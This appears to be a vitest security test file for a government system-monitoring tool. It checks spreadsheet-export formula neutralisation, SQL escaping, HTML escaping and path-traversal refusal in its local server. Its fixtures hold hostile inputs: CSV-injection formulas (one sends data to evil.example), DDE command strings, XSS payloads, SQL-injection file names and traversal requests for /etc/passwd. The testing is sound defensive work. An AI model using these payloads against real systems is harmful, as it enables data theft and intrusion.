// Injection (docs/outputs.md §7.3, docs/operations.md §9): input-derived text cannot become a formula in an exported spreadsheet
// (OWASP CSV injection: a text cell beginning with = + - @ tab or CR gets a leading apostrophe,
// numbers stay numbers), markup or script in a page, SQL, or a path out of the site `govmon serve`
// shows. The city's names, departments, reasons and notes carry the payloads; the database lives
// in a folder whose name holds quotes, and the input files have quotes in their names.

import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parseHTML } from 'linkedom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Store } from '../pipelines/store/database.ts';
import { migrate } from '../pipelines/store/migrate.ts';
import { ingestFile, ingestPaths } from '../pipelines/ingest/ingest.ts';
import { runMonth } from '../pipelines/run/month.ts';
import { evaluateYear } from '../pipelines/run/year.ts';
import { loadProfile } from '../pipelines/profiles.ts';
import { EXPORTS, writeExport } from '../dashboards/exports/write.ts';
import type { ExportKind } from '../dashboards/exports/kind.ts';
import { buildDashboard } from '../dashboards/site/build.ts';
import { months, system, toCsv, IDLE, type SystemRow } from './fixtures/monthly/city.ts';
import { NOW, tempDir, writeFile } from './helpers.ts';
import { parseCsv, startCli, walk } from './fixtures/reliability.ts';

const MONTHS = ['2026-08', '2026-09', '2026-10'];
const MONTH = '2026-10';
const FORMULA = /^[=+\-@\t\r]/;

/** Spreadsheet formulas, each at the start of a name, department or reason (OWASP's list). */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
/** Markup and script, in names and everything else a page shows. */
const XSS = {
  name: '<img src=x onerror="window.__xss=1">申报系统',
  dept: '</script><script>window.__xss=2</script>市"测试"局&amp;',
  reason: '"><svg onload=window.__xss=3>豁免',
  note: "';window.__xss=4;//<!--",
  resource: '<iframe src="javascript:window.__xss=5"></iframe>资源',
};

/** The markup of the payloads, as it would appear if a page did not escape it. */
const RAW_MARKUP = ['<img src=x onerror=', '<script>window.__xss', '<svg onload=', '<iframe src="javascript:'];

let root: string;
let home: string;
let db: string;
let store: Store;
const profile = loadProfile('default');

const SYSTEMS: SystemRow[] = [
  ...PAYLOADS.map((p, i) => system(`F-${i + 1}`, { system_name: p, department: PAYLOADS[(i + 1) % PAYLOADS.length], vcpu: 8 })),
  system('S-QUOTE', { system_name: `O'Brien "引号" 系统; DROP TABLE raw_systems; --`, department: `市'数据'局`, vcpu: 8 }),
  system('XSS-1', { system_name: XSS.name, department: XSS.dept, vcpu: 8, exempt_until: '2027-12-31', exempt_reason: XSS.reason }),
  system('OK-1', { system_name: '正常系统', department: '市数据局' }),
];

beforeAll(async () => {
  root = tempDir('govmon-injection-');
  // The database, its archive and its exports live in a folder whose name holds both quotes.
  home = path.join(root, `it's a "quoted" folder`);
  db = path.join(home, 'g.duckdb');
  store = await Store.open(db);
  await migrate(store);
  const registry = writeFile(
    root,
    `registry 'quoted' "name".csv`,
    toCsv(
      Object.keys(SYSTEMS[0]),
      SYSTEMS.map((s) => ({ ...s })),
    ),
  );
  const telemetry = writeFile(
    root,
    `telemetry'; DROP TABLE files; --.csv`,
    toCsv(
      [
        'system_id',
        'date',
        'cpu_avg_pct',
        'cpu_max_pct',
        'mem_avg_pct',
        'storage_used_gb',
        'active_users',
        'requests',
        'availability_pct',
        'open_high_vulns',
      ],
      SYSTEMS.flatMap((s) => months(s.system_id, MONTHS, s.system_id === 'OK-1' ? {} : IDLE)) as unknown as Record<
        string,
        string | number | null
      >[],
    ),
  );
  const catalog = writeFile(
    root,
    'catalog.csv',
    toCsv(
      ['system_id', 'resource_id', 'resource_name', 'share_type', 'update_cycle', 'cataloged_date', 'last_aggregated_date', 'duplicate_of'],
      SYSTEMS.map((s, i) => ({
        system_id: s.system_id,
        resource_id: `=R${i}`,
        resource_name: i % 2 ? XSS.resource : PAYLOADS[i % PAYLOADS.length],
        share_type: 'unconditional',
        update_cycle: 'daily',
        cataloged_date: '2025-01-01',
        last_aggregated_date: '2026-10-31',
        duplicate_of: i === 0 ? '=DUP()' : null,
      })),
    ),
  );
  const reports = writeFile(
    root,
    'om_report.csv',
    toCsv(
      ['system_id', 'year', 'submitted_date', 'incidents', 'goals_total', 'goals_met', 'integration_points', 'self_score', 'notes'],
      SYSTEMS.map((s, i) => ({
        system_id: s.system_id,
        year: 2025,
        submitted_date: '2026-01-15',
        incidents: 0,
        goals_total: 2,
        goals_met: 2,
        integration_points: 1,
        self_score: 99,
        notes: i % 2 ? XSS.note : PAYLOADS[i % PAYLOADS.length],
      })),
    ),
  );
  // Rows that are refused keep their raw values in the rejects export: payloads there too.
  const bad = writeFile(
    root,
    'bad.csv',
    `system_id,date,cpu_avg_pct\n${PAYLOADS.map((p, i) => `"@unknown-${i}",2026-10-0${i + 1},"${p.replace(/"/g, '""')}"`).join('\n')}\nF-1,2026-10-01,"=1+1"\n`,
  );
  const r = await ingestPaths(store, [registry, telemetry, catalog, reports, bad], { now: NOW });
  expect(r.files.map((f) => f.status)).toEqual(['loaded', 'loaded', 'loaded', 'loaded', 'rejected']);
  for (const m of MONTHS) await runMonth(store, { month: m, profile, now: NOW });
  await evaluateYear(store, { year: 2025, profile, now: NOW });
});

afterAll(() => {
  store?.close();
  fs.rmSync(root, { recursive: true, force: true });
});

/** The period an export kind is asked for: the year for annual kinds, all ingests for rejects. */
function periodOf(spec: ExportKind): { month?: string; year?: number } {
  return spec.period === 'year' ? { year: 2025 } : spec.kind === 'rejects' ? {} : { month: MONTH };
}

describe('exported CSV and XLSX cells cannot be formulas (OWASP CSV injection)', () => {
  it('stores the payloads as they were sent (the test would see them if they leaked)', async () => {
    const names = await store.all<{ system_name: string; department: string }>(
      `SELECT system_name, department FROM systems_current WHERE system_id LIKE 'F-%' ORDER BY system_id`,
    );
    expect(names.map((n) => n.system_name)).toEqual(PAYLOADS);
  });

  it('prefixes every text cell that begins with = + - @ tab or CR with an apostrophe, in every export kind, and leaves numbers as numbers', async () => {
    const out = path.join(home, 'exports');
    const seen = new Set<string>();
    for (const [kind, spec] of Object.entries(EXPORTS)) {
      const csvFile = path.join(out, `${kind}.csv`);
      await writeExport(store, kind, periodOf(spec), csvFile);
      const buf = fs.readFileSync(csvFile);
      expect(buf.subarray(0, 3).toString('hex'), `${kind}.csv starts with a BOM`).toBe('efbbbf');
      const [header, ...rows] = parseCsv(buf.subarray(3).toString('utf8'));
      expect(header).toEqual(spec.columns.map((c) => c.name));
      for (const r of rows)
        r.forEach((v, i) => {
          const col = spec.columns[i];
          if (col.type === 'number' || col.type === 'int') expect(v, `${kind}.${col.name}`).toMatch(/^(-?[0-9.e+-]+)?$/i);
          else expect(FORMULA.test(v), `${kind}.${col.name} = ${JSON.stringify(v)}`).toBe(false);
          for (const p of PAYLOADS) if (v === `'${p}`) seen.add(`${kind}:${p}`);
        });

      const xlsxFile = path.join(out, `${kind}.xlsx`);
      await writeExport(store, kind, periodOf(spec), xlsxFile);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(xlsxFile);
      wb.eachSheet((ws) =>
        ws.eachRow((row, rn) =>
          row.eachCell((cell, cn) => {
            const where = `${kind}.xlsx ${ws.name}!R${rn}C${cn}`;
            expect(cell.type, `${where} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
            if (typeof cell.value === 'string') {
              expect(FORMULA.test(cell.value), `${where} = ${JSON.stringify(cell.value)}`).toBe(false);
              // (XML reads a raw CR back as LF: the cell still begins with the apostrophe)
              for (const p of PAYLOADS)
                if (cell.value === `'${p}` || cell.value === `'${p.replace(/\r/g, '\n')}`) seen.add(`${kind}.xlsx:${p}`);
            }
          }),
        ),
      );
    }
    // Every payload reached the exports — neutralised — as a name, a department and a rejected value.
    for (const p of PAYLOADS) {
      expect(seen.has(`elimination:${p}`) || seen.has(`metrics:${p}`), `${JSON.stringify(p)} in a CSV list`).toBe(true);
      expect(seen.has(`elimination.xlsx:${p}`) || seen.has(`metrics.xlsx:${p}`), `${JSON.stringify(p)} in an XLSX list`).toBe(true);
      expect(seen.has(`rejects:${p}`), `${JSON.stringify(p)} as a rejected value`).toBe(true);
    }
  });

  it('keeps numbers numeric: a negative number is not mistaken for a formula, JSON and Parquet keep the raw text', async () => {
    const file = path.join(home, 'exports', 'metrics.json');
    await writeExport(store, 'metrics', { month: MONTH }, file);
    const rows = JSON.parse(fs.readFileSync(file, 'utf8')) as Record<string, unknown>[];
    // JSON and Parquet are for programs: the text is exact, no apostrophe added.
    expect(rows.filter((r) => PAYLOADS.includes(r.system_name as string)).length).toBe(PAYLOADS.length);
    expect(typeof rows[0].cpu_avg_pct).toBe('number');
  });
});

describe('SQL: paths and values are never spliced into SQL unescaped', () => {
  it('ingests files whose names (and whose database folder) hold quotes and SQL, keeping names and values verbatim', async () => {
    const files = await store.all<{ file_name: string; status: string; archive_path: string }>(
      'SELECT file_name, status, archive_path FROM files ORDER BY file_id',
    );
    expect(files.map((f) => f.file_name)).toContain(`registry 'quoted' "name".csv`);
    expect(files.map((f) => f.file_name)).toContain(`telemetry'; DROP TABLE files; --.csv`);
    for (const f of files) expect(f.archive_path.startsWith(home)).toBe(true);
    expect(await store.value<string>(`SELECT system_name FROM systems_current WHERE system_id = 'S-QUOTE'`)).toBe(
      `O'Brien "引号" 系统; DROP TABLE raw_systems; --`,
    );
    expect(await store.value<number>(`SELECT count(*) FROM raw_systems`)).toBe(SYSTEMS.length);
  });

  it('ingests a Parquet file and a JSON file whose column names hold quotes, and exports to a path with quotes', async () => {
    const { copyTo } = await import('./fixtures/ingest.ts');
    const pq = path.join(root, `telemetry "q'uote".parquet`);
    await copyTo(
      `SELECT 'OK-1' AS system_id, DATE '2026-10-02' AS date, 12.5 AS cpu_avg_pct, 1 AS "it's ""odd""", 2 AS "a'); DROP TABLE files; --"`,
      pq,
      'parquet',
    );
    const o = await ingestFile(store, pq, { now: NOW });
    expect(o.status, o.message).toBe('loaded');
    expect(o.extras).toEqual([`it's "odd"`, `a'); DROP TABLE files; --`]);
    const js = writeFile(root, `x"y'z.json`, JSON.stringify([{ system_id: 'OK-1', date: '2026-10-03', 'k\'"ey': 1, 'a\\b': 2 }]));
    const j = await ingestFile(store, js, { now: NOW });
    expect(j.status, j.message).toBe('loaded');
    const out = path.join(home, `out 'quoted' "dir"`, `metrics '; DROP TABLE runs; --.parquet`);
    const r = await writeExport(store, 'metrics', { month: MONTH }, out);
    expect(r.rows).toBeGreaterThan(0);
    expect(fs.existsSync(out)).toBe(true);
    expect(await store.value<number>('SELECT count(*) FROM runs')).toBeGreaterThan(0);
  });
});

describe('every page escapes input-derived text', () => {
  let site: string;

  beforeAll(async () => {
    site = path.join(home, 'site');
    await buildDashboard(store, { month: MONTH, outDir: site, now: NOW, profile });
  });

  it('no page carries markup, a handler or a script from input; the payloads show as text', async () => {
    const pages = walk(site).filter((f) => f.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(5);
    let shown = 0;
    for (const file of pages) {
      const src = fs.readFileSync(file, 'utf8');
      const { document } = parseHTML(src);
      for (const el of Array.from(document.querySelectorAll('*'))) {
        for (const a of Array.from(el.attributes)) {
          expect(a.name.toLowerCase().startsWith('on'), `${path.relative(site, file)}: <${el.tagName} ${a.name}>`).toBe(false);
          if (['href', 'src', 'action', 'xlink:href'].includes(a.name.toLowerCase()))
            expect(a.value.trim().toLowerCase().startsWith('javascript:'), `${file}: ${a.name}=${a.value}`).toBe(false);
        }
        expect(['IFRAME', 'OBJECT', 'EMBED'].includes(el.tagName), `${file}: <${el.tagName}>`).toBe(false);
        if (el.tagName === 'IMG') expect(el.getAttribute('src'), file).not.toBe('x');
      }
      for (const s of Array.from(document.querySelectorAll('script'))) {
        if (s.getAttribute('src')) continue;
        // only data blocks are inline, and they are JSON that parses
        expect(s.getAttribute('type'), `${file}: an inline script`).toBe('application/json');
        expect(() => JSON.parse(s.textContent ?? ''), file).not.toThrow();
        expect(s.textContent).not.toMatch(/<\/script/i);
      }
      // raw markup from input never appears in the page source (escaped in text and attributes,
      // \u003c in the JSON data blocks)
      for (const m of RAW_MARKUP) expect(src.includes(m), `${path.relative(site, file)} holds ${m}`).toBe(false);
      if ((document.body?.textContent ?? '').includes(XSS.name)) shown++;
    }
    // The XSS system's name is shown, as text, on its pages and the lists.
    expect(shown).toBeGreaterThan(0);
  });

  it.skipIf(!fs.existsSync('/usr/bin/chromium'))(
    'runs no injected script in a real Chromium (skipped only where /usr/bin/chromium is missing; CI installs it)',
    async () => {
      const { chromium } = await import('playwright-core');
      const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox'] });
      try {
        const page = await browser.newPage();
        const dialogs: string[] = [];
        page.on('dialog', (d) => {
          dialogs.push(d.message());
          void d.dismiss();
        });
        const pages = walk(site).filter((f) => f.endsWith('.html') && /XSS|__xss|&lt;img/.test(fs.readFileSync(f, 'utf8')));
        expect(pages.length).toBeGreaterThan(0);
        for (const file of pages) {
          await page.goto(`file://${file}`);
          await page.waitForLoadState('load');
          await page.waitForTimeout(100);
          // the list tables: sort and filter, which redraw rows from the data
          for (const th of (await page.$$('th')).slice(0, 3)) await th.click().catch(() => undefined);
          const filter = await page.$('input[type="search"], input[type="text"]');
          if (filter) await filter.fill('<img');
          expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), path.relative(site, file)).toBeUndefined();
        }
        expect(dialogs).toEqual([]);
      } finally {
        await browser.close();
      }
    },
  );
});

describe('govmon serve', () => {
  let site: string;
  let serve: ReturnType<typeof startCli> | undefined;
  let port = 0;

  beforeAll(async () => {
    site = path.join(home, 'site');
    fs.writeFileSync(path.join(home, 'secret.txt'), 'TOP-SECRET-BESIDE-THE-SITE');
    port = await freePort();
    serve = startCli(['--db', db, 'serve', '--dir', site, '--port', String(port)]);
    let out = '';
    await new Promise<void>((resolve, reject) => {
      serve!.child.stdout!.on('data', (d: string) => {
        out += d;
        if (out.includes('正在提供')) resolve();
      });
      void serve!.done.then((r) => reject(new Error(`serve ended: ${r.stderr}`)));
    });
    expect(out).toContain(`http://127.0.0.1:${port}/`);
  });

  afterAll(async () => {
    serve?.child.kill('SIGTERM');
    await serve?.done;
  });

  it('binds 127.0.0.1 by default: the site answers on loopback and nowhere else', async () => {
    expect((await raw(port, 'GET / HTTP/1.0\r\n\r\n')).split('\r\n')[0]).toMatch(/ 200 /);
    const others = Object.values(os.networkInterfaces())
      .flat()
      .filter((a) => a && a.family === 'IPv4' && !a.internal)
      .map((a) => a!.address);
    for (const address of others) await expect(raw(port, 'GET / HTTP/1.0\r\n\r\n', address)).rejects.toThrow(/ECONNREFUSED/);
  });

  it('refuses path traversal in every spelling, never sending a file from outside the site', async () => {
    const attempts = [
      '/../secret.txt',
      '/../../etc/passwd',
      '/systems/../../secret.txt',
      '/%2e%2e/secret.txt',
      '/%2E%2E/secret.txt',
      '/%2e%2e%2fsecret.txt',
      '/..%2fsecret.txt',
      '/..%5csecret.txt',
      '/%5c..%5csecret.txt',
      '/..\\secret.txt',
      '/%252e%252e/secret.txt',
      '/.%2e/secret.txt',
      '/%c0%ae%c0%ae/secret.txt',
      '/secret.txt%00.html',
      '//etc/passwd',
      `/${encodeURIComponent(path.join(home, 'secret.txt'))}`,
      'http://127.0.0.1/../secret.txt',
    ];
    for (const a of attempts) {
      const res = await raw(port, `GET ${a} HTTP/1.0\r\n\r\n`);
      const status = Number(res.split('\r\n')[0].split(' ')[1]);
      expect(res, a).not.toContain('TOP-SECRET');
      expect(res, a).not.toMatch(/root:.*:0:0:/);
      expect([400, 403, 404], `${a} → ${status}`).toContain(status);
    }
    expect((await raw(port, 'GET /index.html HTTP/1.0\r\n\r\n')).split('\r\n')[0]).toMatch(/ 200 /);
  });
});

/** A raw HTTP exchange (no client-side normalisation of the path). */
function raw(port: number, request: string, host = '127.0.0.1'): Promise<string> {
  return new Promise((resolve, reject) => {
    const s = net.connect({ host, port }, () => s.write(request));
    let out = '';
    s.setEncoding('utf8');
    s.on('data', (d: string) => (out += d));
    s.on('end', () => resolve(out));
    s.on('error', reject);
    s.setTimeout(5000, () => s.destroy(new Error('timeout')));
  });
}

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const srv = net.createServer().listen(0, '127.0.0.1', () => {
      const p = (srv.address() as net.AddressInfo).port;
      srv.close(() => resolve(p));
    });
  });
}
